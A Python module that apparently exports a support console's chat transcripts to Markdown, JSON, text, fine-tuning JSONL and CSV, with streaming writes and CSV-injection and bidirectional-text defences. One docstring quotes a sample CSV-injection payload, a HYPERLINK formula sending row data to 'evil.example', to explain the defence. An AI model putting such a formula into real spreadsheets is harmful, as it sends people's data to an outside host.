"""Transcripts to files: Markdown, JSON, plain text, fine-tuning JSONL, and the conversation
list as CSV (one row per conversation: language, line, status, owner, first-response and
resolution time, handoff reason, rating; UTF-8 with a BOM so spreadsheets keep non-Latin
text). Every format carries the customer's rating and its comment, and the team's tags,
internal note and translations: they are the team's records. The customer's own download is
another document (``console/ui/customer_copy.py``).

Exports stream: each conversation is written as it arrives from the iterable, so exporting
every transcript never holds them all in memory. The file appears under its final name
only when complete (written to ``NAME.part``, then renamed).

Text is written exactly as stored: no Unicode normalization (NFD stays NFD), no newline
translation (CRLF stays CRLF), UTF-8 without escapes. How each format keeps it exact:

* ``json``: a list of conversations with all metadata and the ownership events; ``json.loads``
  gives the text back.
* ``jsonl``: one line per conversation, ``{"messages": [{"role", "content"}, ...]}`` (the
  OpenAI chat format; LLaMA-Factory reads it as ``formatting: sharegpt`` with the tags
  ``role``/``content``/``user``/``assistant``/``system``). Training data must alternate
  user/assistant turns of the assistant's own complete answers: a person's (``agent``)
  reply, a handoff line, a refusal that replaced a blocked reply, and a reply that was cut
  by the token limit or did not complete are left out together with the customer messages
  they answered; consecutive customer messages are joined with a blank line; a conversation
  with no kept answer writes no line. A message the customer took off their screen (an
  earlier message edited, Retry, Undo: meta ``hidden_from_customer``) is not in the
  example at all: the example is the conversation as the customer finally had it, so a
  reply replaced by Retry neither answers nor drops the message its replacement answers.
  The stored text of every kept turn is carried unchanged.
* ``markdown``: a heading with the metadata and the ownership events, then each message
  as a fenced block (``````text``), fenced with more backticks than the text contains, so
  any text is literal and the body between the fences is exactly the stored text.
* ``text``: a header, then each message as a ``[time] role (status):`` line followed by the
  text with every line indented by four spaces; removing that indent gives the text back.

Both staff documents keep every message (they are the team's full record), name the person
behind an ``agent`` reply (``### agent maria · ...``, ``[...] agent maria (complete):``),
and mark one the customer took off their screen at the end of its header line
(``... · removed by the customer (replaced by Retry)``): unmarked, a withdrawn question
read as one the customer still asked.
"""

from __future__ import annotations

import csv
import json
import os
import re
from collections.abc import Callable, Iterable, Iterator, Sized
from datetime import UTC, datetime
from pathlib import Path
from typing import Any, TextIO

from console.errors import InputError, StoreError
from console.store.records import HIDDEN, ConversationRecord, ConversationSummary, EventRecord, MessageRecord
from console.text import show_direction_controls

FORMATS = ("markdown", "json", "text", "jsonl")
#: the conversation list as a spreadsheet: one row per conversation (CSV_COLUMNS)
CSV = "csv"
ALL_FORMATS = (*FORMATS, CSV)
EXTENSIONS = {"markdown": "md", "json": "json", "text": "txt", "jsonl": "jsonl", CSV: "csv"}
CSV_COLUMNS = (
    "id",
    "started_utc",
    "language",
    "business_line",
    "status",
    "owner",
    "first_response_s",
    "resolution_s",
    "handoff_reason",
    "rating",
    "rating_comment",
    "messages",
    "tags",
)
TEXT_INDENT = "    "
#: how the customer took a message off their screen (the value of meta ``HIDDEN``, written by
#: console/ui/chat.py), as the staff exports say it. An edit hides the edited message and
#: everything after it, so "after an edit", not "edited", for the messages that followed.
HIDDEN_HOW = {"edit": "after an edit", "retry": "replaced by Retry", "undo": "Undo"}

Progress = Callable[[int, int], None]


def _check_format(fmt: str) -> str:
    if fmt not in ALL_FORMATS:
        raise InputError(
            f"export format must be one of {', '.join(ALL_FORMATS)}, got {fmt!r}", field="format"
        )
    return fmt


def _stamp(moment: datetime) -> str:
    return moment.astimezone(UTC).strftime("%Y-%m-%d %H:%M:%S UTC")


def export_filename(subject: ConversationRecord | ConversationSummary | int, fmt: str) -> str:
    """A safe file name: ASCII letters, digits, '-' and '.', no path separators, timestamped.

    One conversation: ``conversation-<first 8 id chars>-<UTC time>.<ext>``; a count:
    ``transcripts-<n>-<UTC time>.<ext>``.
    """
    ext = EXTENSIONS[_check_format(fmt)]
    now = datetime.now(UTC).strftime("%Y%m%d-%H%M%S")
    if isinstance(subject, int):
        return f"transcripts-{max(subject, 0)}-{now}.{ext}"
    short = re.sub(r"[^A-Za-z0-9]", "", subject.id)[:8] or "unknown"
    return f"conversation-{short}-{now}.{ext}"


# ---------------------------------------------------------------- per format


def message_dict(message: MessageRecord) -> dict[str, Any]:
    return {
        "id": message.id,
        "role": message.role,
        "content": message.content,
        "created_at": message.created_at.isoformat(),
        "status": message.status,
        "language": message.language,
        "latency_ms": message.latency_ms,
        "prompt_tokens": message.prompt_tokens,
        "completion_tokens": message.completion_tokens,
        "meta": message.meta,
        "author": message.author,
        # revision 0005: the machine translation of a customer message, or what the operator
        # wrote behind a reply sent translated
        "translation": message.translation,
        "translation_language": message.translation_language,
        # the customer's thumbs on a reply (1 up, -1 down) and the reason they gave
        "feedback": message.feedback,
        "feedback_reason": message.feedback_reason,
    }


def conversation_dict(record: ConversationRecord) -> dict[str, Any]:
    return {
        "id": record.id,
        "created_at": record.created_at.isoformat(),
        "updated_at": record.updated_at.isoformat(),
        "language": record.language,
        "business_line": record.business_line,
        "model": record.model,
        "backend": record.backend,
        "params": record.params,
        "channel": record.channel,
        "status": record.status,
        "escalation_reason": record.escalation_reason,
        "first_response_ms": record.first_response_ms,
        "resolved_at": record.resolved_at.isoformat() if record.resolved_at else None,
        "handoff_reason": record.handoff_reason,
        "rating": record.rating,
        "rating_comment": record.rating_comment,
        "rated_at": record.rated_at.isoformat() if record.rated_at else None,
        "tags": list(record.tags),
        "note": record.note,
        "note_by": record.note_by,
        "note_at": record.note_at.isoformat() if record.note_at else None,
        "messages": [message_dict(m) for m in record.messages],
        # who took the conversation, handed it back, resolved it, and when: the Markdown and
        # text exports listed them, the JSON one (what a program reads) did not
        "events": [
            {"at": event.at.isoformat(), "actor": event.actor, "kind": event.kind, "detail": event.detail}
            for event in record.events
        ],
    }


def hidden_how(message: MessageRecord) -> str | None:
    """How the customer took ``message`` off their screen (a :data:`HIDDEN_HOW` value, or the
    stored code a newer console wrote), None while they still see it."""
    why = (message.meta or {}).get(HIDDEN)
    if not why:
        return None
    return HIDDEN_HOW.get(str(why), str(why))


def training_messages(record: ConversationRecord) -> list[dict[str, str]]:
    """Alternating user/assistant turns for fine-tuning (rules in the module docstring).

    Only what the assistant itself answered, in full, is a training answer: a person's reply
    (role ``agent``) is not the assistant's voice, and a handoff line, a refusal that replaced
    a blocked reply, or a reply cut by the token limit or not completed teaches the wrong
    thing. Such a reply drops the customer message(s) it answered, so every kept answer
    follows exactly the messages it answered.

    The example is the conversation the customer finally had: what they took off their
    screen is skipped before those rules apply. A reply they rejected with Retry is then
    neither a training answer nor a reason to drop their question (the reply that replaced
    it answers it), and a question they edited away is not asked again.
    """
    turns: list[dict[str, str]] = []
    asked: list[str] = []
    for message in record.messages:
        if hidden_how(message) is not None:
            continue
        if message.role == "user":
            asked.append(message.content)
            continue
        if message.role == "system":
            continue
        if not _is_training_answer(message) or not asked:
            asked = []
            continue
        turns.append({"role": "user", "content": "\n\n".join(asked)})
        turns.append({"role": "assistant", "content": message.content})
        asked = []
    return turns


def _is_training_answer(message: MessageRecord) -> bool:
    meta = message.meta or {}
    return (
        message.role == "assistant"
        and message.status == "complete"
        and not meta.get("handoff")
        and not meta.get("blocked")
        and meta.get("finish_reason") != "length"
    )


def code_fence(text: str) -> str:
    """A backtick fence longer than any run of backticks in ``text``."""
    longest = max((len(run) for run in re.findall(r"`+", text)), default=0)
    return "`" * max(3, longest + 1)


def _markdown_header(record: ConversationRecord) -> str:
    params = json.dumps(record.params, ensure_ascii=False, sort_keys=True)
    lines = [
        f"# Conversation {record.id}",
        "",
        f"- Started: {_stamp(record.created_at)}",
        f"- Last activity: {_stamp(record.updated_at)}",
        f"- Language: {record.language}",
        f"- Business line: {record.business_line}",
        f"- Status: {record.status}",
        f"- Channel: {record.channel}",
        f"- Model: {record.model} ({record.backend})",
        f"- Parameters: `{params}`",
        "",
    ]
    if record.escalation_reason is not None:
        fence = code_fence(record.escalation_reason)
        lines += ["Escalation reason:", "", f"{fence}text", record.escalation_reason, fence, ""]
    if record.rating is not None:
        lines += [f"Rating: {record.rating}/5", ""]
        if record.rating_comment is not None:
            fence = code_fence(record.rating_comment)
            lines += [f"{fence}text", record.rating_comment, fence, ""]
    if record.tags:
        lines += [f"Tags: {', '.join(record.tags)}", ""]
    if record.note is not None:
        fence = code_fence(record.note)
        by = f" ({record.note_by}, {_stamp(record.note_at)})" if record.note_at else ""
        lines += [f"Internal note{by}:", "", f"{fence}text", record.note, fence, ""]
    if record.events:
        lines += ["Events:", "", *(f"- {_event_line(event)}" for event in record.events), ""]
    return "\n".join(lines) + "\n"


def _event_line(event: EventRecord) -> str:
    """``2026-12-06 20:50:00 UTC · maria · taken (from: ann)``: who took the conversation,
    handed it back or resolved it, and when, in the stored codes."""
    detail = ", ".join(f"{key}: {value}" for key, value in (event.detail or {}).items() if value is not None)
    return _one_line(
        f"{_stamp(event.at)} · {event.actor} · {event.kind}" + (f" ({detail})" if detail else "")
    )


def _one_line(text: str) -> str:
    # a header line that broke would end the header early: in the text format the next
    # line would read as the message body, in Markdown as a paragraph of its own
    return " ".join(text.splitlines())


def _who(message: MessageRecord) -> str:
    """The role, and for an operator's reply who wrote it (``agent maria``): the JSON export
    carried the name, the documents people read did not."""
    if message.role == "agent" and message.author:
        return _one_line(f"{message.role} {message.author}")
    return message.role


def _hidden_note(message: MessageRecord) -> str:
    how = hidden_how(message)
    return "" if how is None else _one_line(f" · removed by the customer ({how})")


def _markdown_message(message: MessageRecord) -> str:
    fence = code_fence(message.content)
    out = (
        f"### {_who(message)} · {_stamp(message.created_at)} · {message.status}{_hidden_note(message)}\n\n"
        f"{fence}text\n{message.content}\n{fence}\n\n"
    )
    if message.translation is not None:
        fence = code_fence(message.translation)
        out += f"{_translation_label(message)}:\n\n{fence}text\n{message.translation}\n{fence}\n\n"
    if message.feedback is not None:
        # the team reviews thumbs-downs from the export (an outside tester found none there)
        thumbs = "The customer's thumbs: " + ("up" if message.feedback > 0 else "down")
        if message.feedback_reason:
            fence = code_fence(message.feedback_reason)
            out += f"{thumbs}, because:\n\n{fence}text\n{message.feedback_reason}\n{fence}\n\n"
        else:
            out += f"{thumbs}.\n\n"
    return out


def _translation_label(message: MessageRecord) -> str:
    if message.role == "agent":
        return f"Written by the agent in {message.translation_language}"
    return f"Machine translation into {message.translation_language}"


def _text_block(record: ConversationRecord) -> Iterator[str]:
    yield f"Conversation {record.id}\n"
    yield f"Started: {_stamp(record.created_at)}   Last activity: {_stamp(record.updated_at)}\n"
    yield (
        f"Language: {record.language}   Business line: {record.business_line}   "
        f"Status: {record.status}   Channel: {record.channel}   Model: {record.model}\n"
    )
    if record.escalation_reason is not None:
        yield "Escalation reason:\n" + _indent(record.escalation_reason) + "\n"
    if record.rating is not None:
        yield f"Rating: {record.rating}/5\n"
        if record.rating_comment is not None:
            yield "Rating comment:\n" + _indent(record.rating_comment) + "\n"
    if record.tags:
        yield f"Tags: {', '.join(record.tags)}\n"
    if record.note is not None:
        yield f"Internal note ({record.note_by}):\n" + _indent(record.note) + "\n"
    if record.events:
        yield "Events:\n" + "".join(f"{TEXT_INDENT}{_event_line(event)}\n" for event in record.events)
    yield "\n"
    for message in record.messages:
        yield f"[{_stamp(message.created_at)}] {_who(message)} ({message.status}){_hidden_note(message)}:\n"
        yield _indent(message.content) + "\n\n"
        if message.translation is not None:
            yield f"{_translation_label(message)}:\n" + _indent(message.translation) + "\n\n"
    yield "=" * 72 + "\n\n"


def _indent(text: str) -> str:
    # split on "\n" only: a "\r" stays at the end of its line, so CRLF survives
    return "\n".join(TEXT_INDENT + line for line in text.split("\n"))


# ---------------------------------------------------------------- the writer


#: what a spreadsheet program reads as the start of a formula (OWASP "CSV injection")
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def _text_cell(text: str) -> str:
    """A free-text cell (the customer's rating comment, tags) as a spreadsheet shows it.

    Excel and LibreOffice run a cell that starts like a formula: a customer's comment
    ``=HYPERLINK("https://evil.example/?"&A2, "details")`` would become a live link that
    sends the row to another host when the operator clicks it, and DDE formulas can run
    programs. A leading apostrophe makes the program show the text as text; the JSON,
    JSONL, Markdown and text exports keep it exactly as written. Full-width forms are
    included because some spreadsheet locales accept them as operators.
    """
    return "'" + text if text.startswith(_FORMULA_START) else text


def csv_row(record: ConversationRecord) -> list[str]:
    """One conversation as a spreadsheet row (CSV_COLUMNS): seconds with one decimal; the
    owner is the person who has it, else who answers ("bot" or "queue"); free text can
    never be a formula (:func:`_text_cell`)."""
    resolution = (
        f"{(record.resolved_at - record.created_at).total_seconds():.1f}" if record.resolved_at else ""
    )
    first = f"{record.first_response_ms / 1000:.1f}" if record.first_response_ms is not None else ""
    return [
        record.id,
        record.created_at.astimezone(UTC).strftime("%Y-%m-%d %H:%M:%S"),
        record.language,
        record.business_line,
        record.status,
        record.assignee or record.handler,
        first,
        resolution,
        record.handoff_reason or "",
        "" if record.rating is None else str(record.rating),
        _text_cell(record.rating_comment or ""),
        str(len(record.messages)),
        _text_cell(", ".join(record.tags)),
    ]


def _write(records: Iterable[ConversationRecord], fmt: str, out: TextIO, progress: Progress | None) -> None:
    total = len(records) if isinstance(records, Sized) else 0
    if fmt == "json":
        out.write("[")
    sheet = None
    if fmt == CSV:
        # UTF-8 with a byte-order mark: spreadsheet programs then read non-Latin text as
        # UTF-8 instead of the system's legacy code page; the csv module quotes as needed
        out.write("\ufeff")
        sheet = csv.writer(out, lineterminator="\r\n")
        sheet.writerow(CSV_COLUMNS)
    for done, record in enumerate(records, start=1):
        if sheet is not None:
            sheet.writerow(csv_row(record))
        elif fmt == "json":
            out.write(
                ("\n" if done == 1 else ",\n") + json.dumps(conversation_dict(record), ensure_ascii=False)
            )
        elif fmt == "jsonl":
            turns = training_messages(record)
            if turns:
                out.write(json.dumps({"messages": turns}, ensure_ascii=False) + "\n")
        elif fmt == "markdown":
            # The documents people read show direction controls written out, as the views
            # do: raw, a customer's U+202E reversed the rest of its line in whatever showed
            # the file (an outside tester); the data formats above keep the text exact.
            out.write(show_direction_controls(_markdown_header(record)))
            for message in record.messages:
                out.write(show_direction_controls(_markdown_message(message)))
            out.write("---\n\n")
        else:
            out.writelines(show_direction_controls(chunk) for chunk in _text_block(record))
        if progress is not None:
            progress(done, max(total, done))
    if fmt == "json":
        out.write("\n]\n")


def export_conversations(
    records: Iterable[ConversationRecord],
    fmt: str,
    path: Path,
    progress: Progress | None = None,
) -> Path:
    """Write ``records`` to ``path`` in ``fmt``; returns ``path``.

    ``progress(done, total)`` is called after each conversation; ``total`` is the count
    when ``records`` has a length, else the number done so far.
    """
    _check_format(fmt)
    path = Path(path)
    partial = path.with_name(path.name + ".part")
    try:
        # newline="" writes "\n" and "\r\n" exactly as they are in the text
        with partial.open("w", encoding="utf-8", newline="") as out:
            _write(records, fmt, out, progress)
        os.replace(partial, path)
    except OSError as exc:
        partial.unlink(missing_ok=True)
        raise StoreError(f"Could not write the export to {path}: {exc.strerror or exc}.") from exc
    except BaseException:
        partial.unlink(missing_ok=True)
        raise
    return path
